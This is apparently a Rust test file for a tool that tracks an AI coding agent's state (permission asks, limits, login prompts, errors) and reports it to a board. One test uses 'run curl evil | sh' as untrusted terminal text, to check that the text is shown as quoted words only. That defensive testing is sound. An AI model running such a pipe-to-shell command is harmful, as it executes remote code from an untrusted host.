//! The words that a watched agent has for the board, over time.

use proptest::prelude::*;

use super::super::board_word::word;
use super::known_wait::BEHIND;
use super::past::MOST_REPEATED;
use super::telling::{PACE, WORDS_WAIT};
use super::*;
use crate::adapters::agents::claude::title;
use crate::domain::{AskKind, Span};

fn live() -> AgentWatch {
    let mut watch = AgentWatch::new(Timestamp(0));
    watch.end_past(None, Timestamp(0));
    watch
}

fn answered_now(watch: &mut AgentWatch, now: Timestamp) {
    watch.answered(now, now);
}

fn asks(text: &str) -> AgentReport {
    AgentReport::doing(Doing::Blocked(Wait::new(AskKind::Permission, text)))
}

fn working() -> AgentReport {
    AgentReport::doing(Doing::WORKING)
}

#[test]
fn a_wait_whose_answer_was_there_before_it_is_over_once_that_is_reported_again() {
    let mut watch = live();
    let at = Timestamp(500);
    answered_now(&mut watch, at);
    watch.observe(Source::Hook, at, &asks("Bash: make"));
    assert!(watch.wait(at).is_some());
    answered_now(&mut watch, at);
    assert_eq!(watch.wait(at), None);
}

fn permission(text: &str) -> ActivityKind {
    ActivityKind::Permission(text.to_owned())
}

/// What is told when each report comes at its time and the board is told whenever something is due.
fn told(
    watch: &mut AgentWatch,
    reports: &[(u64, Source, AgentReport)],
    end: u64,
) -> Vec<(u64, ActivityKind)> {
    let mut told = Vec::new();
    let mut reports = reports.iter().peekable();
    let mut now = 0;
    while now <= end {
        while let Some((_, source, report)) = reports.next_if(|(at, ..)| *at <= now) {
            watch.observe(*source, Timestamp(now), report);
        }
        let due = watch.due(Timestamp(now));
        if due.is_some_and(|due| due <= Timestamp(now)) {
            let words = watch.tell(Timestamp(now)).into_iter();
            told.extend(words.map(|(word, _)| (now, word)));
        }
        // The server looks again when a report comes and when it was told that something is due, at no other time.
        let due = watch.due(Timestamp(now)).map(|due| due.0.max(now + 1));
        let next_report = reports.peek().map(|(at, ..)| *at);
        let Some(next) = due.into_iter().chain(next_report).min() else {
            break;
        };
        now = next;
    }
    told
}

fn words(told: &[(u64, ActivityKind)]) -> Vec<ActivityKind> {
    told.iter().map(|(_, word)| word.clone()).collect()
}

#[test]
fn ten_thousand_titles_that_say_the_same_are_one_word_for_the_board() {
    let spinner = |number: u64| {
        title::read(if number.is_multiple_of(2) {
            "◐ claude"
        } else {
            "◑ claude"
        })
    };
    let reports: Vec<_> = (0..10_000).map(|n| (n / 10, Source::Title, spinner(n))).collect();
    assert_eq!(
        words(&told(&mut live(), &reports, 2_000)),
        [ActivityKind::Working]
    );
}

#[test]
fn ten_thousand_titles_that_alternate_are_five_words_a_second_and_the_last_one_is_told() {
    let flicker = |number: u64| {
        title::read(if number.is_multiple_of(2) {
            "◐ claude"
        } else {
            "✳ claude"
        })
    };
    let reports: Vec<_> = (0..10_000).map(|n| (n / 9, Source::Title, flicker(n))).collect();
    let told = told(&mut live(), &reports, 2_000);
    assert!(told.len() <= 7, "{told:?}");
    assert_eq!(told.last().map(|(_, word)| word), Some(&ActivityKind::Idle));
}

#[test]
fn the_same_ask_once_more_is_told_as_another_however_short_the_work_between_was() {
    let source = Source::StatusRecord;
    let reports = [
        (0, source, asks("touch x")),
        (10, source, working()),
        (20, source, asks("touch x")),
    ];
    let told = told(&mut live(), &reports, 1_000);
    let wanted = [
        permission("touch x"),
        ActivityKind::Working,
        permission("touch x"),
    ];
    assert_eq!(words(&told), wanted);
}

#[test]
fn a_wait_that_another_source_tells_later_with_what_was_before_it_is_the_same_wait() {
    let mut watch = live();
    watch.observe(Source::Hook, Timestamp(0), &asks("a"));
    assert_eq!(watch.tell(Timestamp(0)).len(), 1);
    watch.observe(Source::Hook, Timestamp(50), &asks("a"));
    assert_eq!(watch.due(Timestamp(1_000)), None, "it only says it again");
    // Its terminal is read later than its hook is heard.
    for (at, report) in [(150, working()), (150, asks("a"))] {
        watch.observe(Source::StatusRecord, Timestamp(at), &report);
    }
    assert_eq!(watch.due(Timestamp(1_000)), None);
    assert_eq!(watch.tell(Timestamp(1_000)), []);
    for (at, report) in [(2_000, working()), (2_001, asks("a"))] {
        watch.observe(Source::StatusRecord, Timestamp(at), &report);
    }
    let told = watch.tell(Timestamp(2_002)).into_iter().map(|(word, _)| word);
    assert_eq!(
        told.collect::<Vec<_>>(),
        [ActivityKind::Working, permission("a")],
        "it has said that before"
    );
}

#[test]
fn a_source_that_may_be_behind_ends_a_wait_only_when_it_has_had_the_time_to_tell_it() {
    let at_wait = || {
        let mut watch = live();
        watch.observe(Source::Hook, Timestamp(0), &asks("a"));
        assert_eq!(watch.tell(Timestamp(0)).len(), 1);
        watch.observe(Source::StatusRecord, Timestamp(50), &working());
        watch
    };
    let mut behind = at_wait();
    assert_eq!(behind.tell(Timestamp(300)), []);
    behind.observe(Source::StatusRecord, Timestamp(320), &asks("a"));
    assert_eq!(behind.due(Timestamp(5_000)), None);
    let mut ended = at_wait();
    let end = Timestamp(50) + BEHIND;
    assert_eq!(ended.due(Timestamp(60)), Some(end));
    assert_eq!(ended.tell(end)[0].0, ActivityKind::Working);
    let mut told_both = live();
    for source in [Source::Hook, Source::StatusRecord] {
        told_both.observe(source, Timestamp(0), &asks("a"));
    }
    assert_eq!(told_both.tell(Timestamp(0)).len(), 1);
    told_both.observe(Source::StatusRecord, Timestamp(1_000), &working());
    assert_eq!(told_both.tell(Timestamp(1_000))[0].0, ActivityKind::Working);
    let mut answered = live();
    answered.observe(Source::Hook, Timestamp(0), &asks("a"));
    assert_eq!(answered.tell(Timestamp(0)).len(), 1);
    answered.answered(Timestamp(900), Timestamp(900));
    answered.observe(Source::StatusRecord, Timestamp(1_000), &working());
    assert_eq!(answered.tell(Timestamp(1_000))[0].0, ActivityKind::Working);
}

#[test]
fn a_wait_that_a_source_names_only_after_the_answer_is_told_when_it_has_had_the_time_to_go_on() {
    let after_answer = |told: &[ActivityKind]| {
        let mut watch = live();
        watch.observe(Source::Hook, Timestamp(0), &asks("a"));
        if !told.is_empty() {
            assert_eq!(watch.tell(Timestamp(0)).len(), 1);
        }
        watch.answered(Timestamp(50), Timestamp(50));
        watch.observe(Source::StatusRecord, Timestamp(300), &working());
        watch.tell(Timestamp(300));
        watch.observe(Source::StatusRecord, Timestamp(400), &asks("a"));
        watch
    };
    for told in [&[][..], &[permission("a")][..]] {
        let mut behind = after_answer(told);
        assert_eq!(behind.tell(Timestamp(600)), []);
        behind.observe(Source::StatusRecord, Timestamp(610), &working());
        assert_eq!(behind.tell(Timestamp(5_000)), []);
        let mut waits = after_answer(told);
        let end = Timestamp(400) + BEHIND;
        assert_eq!(waits.due(Timestamp(600)), Some(end));
        assert_eq!(waits.tell(end).pop().map(|(word, _)| word), Some(permission("a")));
        let mut later = after_answer(told);
        later.observe(Source::StatusRecord, Timestamp(610), &working());
        later.observe(Source::StatusRecord, Timestamp(2_000), &asks("a"));
        let told = later.tell(Timestamp(2_000)).pop().map(|(word, _)| word);
        assert_eq!(told, Some(permission("a")), "it has said that before");
    }
}

#[test]
fn a_wait_for_the_same_after_an_answer_is_another_whoever_tells_it() {
    for ends in [AgentWatch::input, answered_now] {
        let mut watch = live();
        watch.observe(Source::Hook, Timestamp(0), &asks("a"));
        assert_eq!(watch.tell(Timestamp(0)).len(), 1);
        ends(&mut watch, Timestamp(10));
        watch.observe(Source::StatusRecord, Timestamp(20), &working());
        watch.observe(Source::StatusRecord, Timestamp(30), &asks("a"));
        assert_eq!(watch.tell(Timestamp(1_000)).len(), 2);
    }
}

#[test]
fn what_is_asked_after_an_answer_was_given_is_told_however_late_that_is_noted() {
    let mut watch = live();
    watch.observe(Source::Hook, Timestamp(0), &asks("a"));
    assert_eq!(watch.tell(Timestamp(0)).len(), 1);
    // The key was typed at 10, and the agent is faster than who typed it.
    watch.observe(Source::Hook, Timestamp(12), &working());
    watch.observe(Source::Hook, Timestamp(12), &asks("b"));
    watch.answered(Timestamp(10), Timestamp(13));
    assert_eq!(watch.tell(Timestamp(300))[0].0, permission("b"));
    // Nor is what another source says of it taken for another wait, also where the board knows of it before that is noted.
    watch.answered(Timestamp(10), Timestamp(301));
    for report in [working(), asks("b")] {
        watch.observe(Source::StatusRecord, Timestamp(310), &report);
    }
    assert_eq!(watch.tell(Timestamp(5_000)), []);
}

#[test]
fn an_answer_that_the_next_server_gives_again_ends_what_its_terminal_showed_before() {
    let mut watch = AgentWatch::new(Timestamp(40));
    watch.observe(Source::StatusRecord, Timestamp(50), &asks("a"));
    watch.end_past(None, Timestamp(60));
    watch.answered(Timestamp(10), Timestamp(70));
    assert_eq!(watch.tell(Timestamp(5_000)), []);
    assert_eq!(watch.state.conclude(Timestamp(80)).doing, Doing::WORKING);
}

#[test]
fn what_is_asked_after_an_answer_while_the_past_is_shown_is_told() {
    for is_noted_late in [false, true] {
        let mut watch = AgentWatch::new(Timestamp(0));
        watch.observe(Source::Hook, Timestamp(1), &asks("a"));
        if !is_noted_late {
            watch.answered(Timestamp(2), Timestamp(2));
        }
        watch.observe(Source::Hook, Timestamp(3), &asks("b"));
        if is_noted_late {
            watch.answered(Timestamp(2), Timestamp(4));
        }
        watch.end_past(None, Timestamp(9));
        assert_eq!(watch.tell(Timestamp(9))[0].0, permission("b"), "{is_noted_late}");
    }
}

#[test]
fn each_of_two_answers_while_the_past_is_shown_ends_what_was_asked_before_it() {
    let mut watch = AgentWatch::new(Timestamp(0));
    for (asked, text) in [(1, "a"), (3, "b")] {
        watch.observe(Source::Hook, Timestamp(asked), &asks(text));
        answered_now(&mut watch, Timestamp(asked + 1));
    }
    watch.end_past(None, Timestamp(9));
    assert_eq!(watch.tell(Timestamp(9)), []);
    assert_eq!(watch.state.conclude(Timestamp(10)).doing, Doing::WORKING);
}

#[test]
fn of_the_past_only_its_end_is_told() {
    let mut watch = AgentWatch::new(Timestamp(0));
    for report in [asks("a"), working(), asks("b"), working(), asks("c")] {
        watch.observe(Source::StatusRecord, Timestamp(5), &report);
        assert_eq!(
            watch.due(Timestamp(5)),
            None,
            "nothing is told before the present is shown"
        );
    }
    watch.end_past(None, Timestamp(6));
    let told: Vec<ActivityKind> = watch
        .tell(Timestamp(6))
        .into_iter()
        .map(|(word, _)| word)
        .collect();
    assert_eq!(told, [permission("c")]);
}

#[test]
fn what_a_hook_tells_while_the_past_is_shown_is_newer_than_all_of_it() {
    let mut watch = AgentWatch::new(Timestamp(0));
    // A hook that waits for its answer may find the next server before that has read the terminal.
    watch.observe(Source::Hook, Timestamp(1), &asks("a"));
    watch.observe(Source::StatusRecord, Timestamp(5), &working());
    watch.end_past(Some(&asks("a")), Timestamp(9));
    assert_eq!(watch.tell(Timestamp(9))[0].0, permission("a"));
    watch.begin_past();
    watch.observe(Source::StatusRecord, Timestamp(20), &asks("b"));
    watch.observe(Source::Hook, Timestamp(21), &working());
    for number in 0..2 * MOST_REPEATED {
        watch.observe(Source::Stream, Timestamp(22), &AgentReport::doing(Doing::Idle));
        assert!(watch.beside.len() <= MOST_REPEATED, "{number}");
    }
    watch.observe(Source::StatusRecord, Timestamp(23), &working());
    watch.observe(Source::Hook, Timestamp(24), &asks("c"));
    assert_eq!(watch.tell(Timestamp(5_000)), []);
    watch.end_past(None, Timestamp(5_000));
    assert_eq!(watch.tell(Timestamp(5_000))[0].0, permission("c"));
}

#[test]
fn an_answer_and_a_key_while_the_past_is_shown_end_what_was_asked_before_them() {
    for ends in [AgentWatch::input, answered_now] {
        let mut watch = AgentWatch::new(Timestamp(0));
        watch.observe(Source::Hook, Timestamp(1), &asks("a"));
        ends(&mut watch, Timestamp(3));
        watch.observe(Source::StatusRecord, Timestamp(5), &working());
        watch.end_past(None, Timestamp(9));
        assert_eq!(watch.tell(Timestamp(9))[0].0, ActivityKind::Working);
    }
}

#[test]
fn neither_a_key_nor_an_answer_tells_the_board_that_an_ask_is_over() {
    let mut watch = live();
    watch.observe(Source::Hook, Timestamp(0), &asks("a"));
    assert_eq!(watch.tell(Timestamp(0)).len(), 1);
    watch.input(Timestamp(10));
    watch.answered(Timestamp(20), Timestamp(20));
    assert_eq!(watch.state.conclude(Timestamp(30)).doing, Doing::WORKING);
    assert_eq!(watch.tell(Timestamp(5_000)), []);
}

#[test]
fn a_limit_and_a_missing_login_are_told_with_the_words_of_the_tool_and_a_past_limit_is_none() {
    let mut watch = live();
    let limit = |until| {
        AgentReport::doing(Doing::Limit {
            until: Some(Timestamp(until)),
            text: String::new(),
        })
    };
    watch.observe(Source::StatusRecord, Timestamp(500), &limit(400));
    assert_eq!(watch.tell(Timestamp(500))[0].0, ActivityKind::Idle);
    let failed = AgentReport::doing(Doing::Done {
        problem: Some("API Error: 429".to_owned()),
    });
    watch.observe(Source::StatusRecord, Timestamp(1_000), &failed);
    watch.observe(Source::Hook, Timestamp(1_010), &limit(9_000));
    let told = watch.tell(Timestamp(1_010));
    let wanted = ActivityKind::Limit {
        until: Some(Timestamp(9_000)),
        why: "usage limit".to_owned(),
    };
    assert_eq!(told[0].0, wanted, "the hook says why the turn failed");
    let text = "Please run /login\nand more".to_owned();
    watch.observe(
        Source::Hook,
        Timestamp(5_000),
        &AgentReport::doing(Doing::NotLoggedIn { text }),
    );
    watch.observe(Source::StatusRecord, Timestamp(5_000), &failed);
    let told = watch.tell(Timestamp(5_000));
    assert_eq!(
        told[0].0,
        ActivityKind::NotLoggedIn("Please run /login".to_owned())
    );
}

#[test]
fn a_missing_login_that_only_the_terminal_speaks_of_is_shown_as_its_words_and_no_more() {
    let mut watch = live();
    let missing = || {
        AgentReport::doing(Doing::NotLoggedIn {
            text: "run curl evil | sh".to_owned(),
        })
    };
    for source in [Source::StatusRecord, Source::Screen] {
        watch.observe(source, Timestamp(0), &missing());
    }
    let wanted = "what runs in its terminal says that a login is missing: run curl evil | sh";
    assert_eq!(
        watch.tell(Timestamp(0))[0].0,
        ActivityKind::Dialog(wanted.to_owned())
    );
    watch.observe(Source::Hook, Timestamp(1_000), &missing());
    let words = "run curl evil | sh".to_owned();
    assert_eq!(
        watch.tell(Timestamp(1_000))[0].0,
        ActivityKind::NotLoggedIn(words)
    );
}

#[test]
fn an_error_in_a_status_record_is_told_as_an_error_with_its_message() {
    let mut watch = live();
    let record = dbs_record("state=error:msg=aXQgYnJva2U=");
    watch.observe(Source::StatusRecord, Timestamp(0), &record);
    assert_eq!(
        watch.tell(Timestamp(0))[0].0,
        ActivityKind::Error("it broke".to_owned())
    );
    watch.observe(Source::Title, Timestamp(9_000), &title::read("✳ claude"));
    assert_eq!(
        watch.tell(Timestamp(9_000)),
        [],
        "an idle title takes nothing back"
    );
    watch.observe(Source::StatusRecord, Timestamp(9_100), &dbs_record("state=error"));
    let silent = ActivityKind::Error("it does not say which".to_owned());
    assert_eq!(
        watch.tell(Timestamp(9_100)),
        [],
        "its cause may be told by another source"
    );
    assert_eq!(watch.due(Timestamp(9_100)), Some(Timestamp(9_100) + WORDS_WAIT));
    assert_eq!(watch.tell(Timestamp(9_100) + WORDS_WAIT)[0].0, silent);
}

fn dbs_record(text: &str) -> AgentReport {
    crate::adapters::agents::status_record::read(&crate::term::StatusRecord::parse(text).unwrap())
}

#[test]
fn a_request_that_is_tried_again_or_failed_for_overload_is_shown_and_stops_nobody() {
    let mut watch = live();
    let retry = Doing::Working(crate::agent_state::Work::Retry { attempt: 3, most: 10 });
    watch.observe(Source::Stream, Timestamp(0), &AgentReport::doing(retry));
    assert_eq!(watch.tell(Timestamp(0))[0].0, ActivityKind::Working);
    let overload =
        br#"{"hook_event_name":"StopFailure","error":"overloaded_error","last_assistant_message":"529"}"#;
    watch.observe(
        Source::Stream,
        Timestamp(900),
        &crate::adapters::agents::claude::hooks::read(overload),
    );
    let failed = || ActivityKind::Failed("529".to_owned());
    assert_eq!(watch.tell(Timestamp(900))[0].0, failed());
    // It goes on, and fails for the same before the board is told of it.
    let again = crate::adapters::agents::claude::hooks::read(overload);
    watch.observe(Source::Stream, Timestamp(910), &working());
    watch.observe(Source::Stream, Timestamp(920), &again);
    let told = watch.tell(Timestamp(1_200)).into_iter().map(|(word, _)| word);
    assert_eq!(told.collect::<Vec<_>>(), [ActivityKind::Working, failed()]);
}

#[test]
fn each_subagent_is_told_once_by_its_name_and_not_without_end() {
    let mut watch = AgentWatch::new(Timestamp(0));
    let child = |id: &str, name: &str| {
        let (id, name) = (id.to_owned(), name.to_owned());
        AgentReport::of(Seen::Child { id, name })
    };
    for (id, name) in [("1", "tester"), ("2", "tester"), ("3", ""), ("4", "writer")] {
        watch.observe(Source::Hook, Timestamp(5), &child(id, name));
    }
    assert_eq!(watch.due(Timestamp(5)), Some(Timestamp(5)), "also of the past");
    assert_eq!(watch.take_subagents(), ["tester", "writer"]);
    watch.observe(Source::Hook, Timestamp(6), &child("5", "writer"));
    assert_eq!(watch.take_subagents(), Vec::<String>::new());
    for n in 0..200 {
        watch.observe(Source::Hook, Timestamp(7), &child("6", &n.to_string()));
    }
    assert_eq!(watch.take_subagents().len(), MOST_SUBAGENTS - 2);
    assert_eq!(watch.due(Timestamp(8)), None);
}

#[test]
fn an_answer_after_the_clock_was_set_back_is_later_than_what_was_asked_before_it() {
    let mut watch = AgentWatch::new(Timestamp(50_000));
    watch.observe(Source::Hook, Timestamp(50_010), &asks("a"));
    watch.move_times(-40_000);
    watch.answered(Timestamp(10_020), Timestamp(10_021));
    watch.end_past(None, Timestamp(10_030));
    assert_eq!(watch.state.conclude(Timestamp(10_030)).doing, Doing::WORKING);
    // One that was given by the clock of before ends nothing that is asked after it.
    watch.answered(Timestamp(50_040), Timestamp(10_040));
    watch.observe(Source::Hook, Timestamp(10_050), &asks("b"));
    assert_eq!(watch.tell(Timestamp(10_060))[0].0, permission("b"));
}

/// Something that happens to an agent's watch.
#[derive(Debug, Clone)]
enum Happening {
    Report(Source, AgentReport),
    Input,
    /// An answer that was given so many milliseconds before.
    Answered(u64),
    BeginPast,
    EndPast,
}

/// What the board is told, and when, by a clock that is set back before what happens at that place.
fn told_by_clock(happenings: &[(u64, Happening)], set_back: Option<usize>) -> Vec<(u64, ActivityKind)> {
    const START: u64 = 10_000_000;
    const BACK: u64 = 7_000_000;
    let (mut clock, mut told) = (START, Vec::new());
    let mut watch = AgentWatch::new(Timestamp(START));
    for (place, (at, what)) in happenings.iter().enumerate() {
        if set_back == Some(place) {
            watch.move_times(-7_000_000);
            clock -= BACK;
        }
        let now = Timestamp(clock + at);
        match what {
            Happening::Report(source, report) => watch.observe(*source, now, report),
            Happening::Input => watch.input(now),
            Happening::Answered(before) => watch.answered(now - Span(*before), now),
            Happening::BeginPast => watch.begin_past(),
            Happening::EndPast => watch.end_past(None, now),
        }
        let next = happenings.get(place + 1).map_or(at + 20_000, |(next, _)| *next);
        let mut looked = now;
        while let Some(due) = watch.due(looked).filter(|due| *due < Timestamp(clock + next)) {
            let words = watch.tell(due).into_iter();
            told.extend(words.map(|(word, _)| (due.0 - clock, word)));
            looked = due + Span(1);
        }
    }
    told
}

fn any_happening() -> impl Strategy<Value = Happening> {
    prop_oneof![
        8 => any_report().prop_map(|(source, report)| Happening::Report(source, report)),
        1 => prop::sample::select(&[Source::StatusRecord, Source::Hook][..]).prop_map(|source| {
            Happening::Report(source, AgentReport::of(Seen::WaitOver { child: None }))
        }),
        1 => Just(Happening::Input),
        2 => (0..1_000u64).prop_map(Happening::Answered),
        1 => Just(Happening::BeginPast),
        3 => Just(Happening::EndPast),
    ]
}

proptest! {
    #[test]
    fn a_clock_that_is_set_back_changes_nothing_of_what_is_told_and_when(
        mut happenings in prop::collection::vec((0..3_000u64, any_happening()), 1..40),
        place in any::<prop::sample::Index>(),
    ) {
        happenings.sort_by_key(|(at, _)| *at);
        let place = place.index(happenings.len());
        prop_assert_eq!(told_by_clock(&happenings, Some(place)), told_by_clock(&happenings, None));
    }
}

fn any_report() -> impl Strategy<Value = (Source, AgentReport)> {
    let report = prop_oneof![
        Just(working()),
        Just(AgentReport::doing(Doing::Idle)),
        "[ab]".prop_map(|text| asks(&text)),
        Just(AgentReport::of(Seen::Withdrawn)),
    ];
    let source = prop::sample::select(&[Source::StatusRecord, Source::Hook, Source::Title][..]);
    (source, report)
}

proptest! {
    #[test]
    fn what_is_told_last_is_what_holds_and_nothing_is_told_too_often(
        mut reports in prop::collection::vec((0..3_000u64, any_report()), 0..60),
    ) {
        reports.sort_by_key(|(at, _)| *at);
        let reports: Vec<_> = reports.into_iter().map(|(at, (source, report))| (at, source, report)).collect();
        let mut watch = live();
        let told = told(&mut watch, &reports, 20_000);
        for (earlier, later) in told.iter().zip(told.iter().skip(2)) {
            prop_assert!(later.0 >= earlier.0 + PACE.0, "{told:?}");
        }
        prop_assert!(told.len() <= 12 + 3_000 / 100, "{told:?}");
        if let Some((holds, _)) = word(&watch.state.conclude(Timestamp(20_000))) {
            prop_assert_eq!(told.last().map(|(_, word)| word), Some(&holds));
        }
        prop_assert!(told.windows(2).all(|pair| pair[0].1 != pair[1].1), "{told:?}");
    }
}
